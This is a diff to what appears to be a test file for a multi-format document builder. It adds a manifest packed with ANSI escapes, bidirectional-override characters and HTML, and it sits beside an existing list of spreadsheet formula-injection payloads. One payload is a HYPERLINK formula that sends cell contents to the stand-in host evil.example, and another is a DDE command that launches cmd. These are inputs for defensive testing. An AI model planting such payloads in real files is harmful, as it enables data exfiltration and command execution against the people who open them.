@@ -25,6 +25,7 @@ from diemtin.workspace import open_workspace
 ORDER = Order(
     modified="2024-02-05T07:00:00Z", to=("pdf", "docx", "epub", "html", "md", "json"), jobs=1
 )
+MANIFEST = 'title = "Tin\\u001b[31m\\u202e"\nagency = "SỞ\\u2066 <b>"\nrecipients = ["\\u200fSở"]'
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"xem")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -91,7 +92,7 @@ def outputs_of(captures: list[tuple[str, str]]) -> dict[str, bytes]:
         for number, (ending, text) in enumerate(captures):
             data = text.encode("utf-8", "surrogatepass")
             (Path(folder) / f"{number}.{ending}").write_bytes(data)
-        (Path(folder) / "briefing.toml").write_text('title = "Tin\\u001b[31m"')
+        (Path(folder) / "briefing.toml").write_text(MANIFEST)
         made = build(open_workspace(Path(folder)), ORDER)
     assert not [lost.trace for lost in made.unusable if lost.trace]
     return {name.partition(".")[2]: data for name, data in made.outputs.items()}
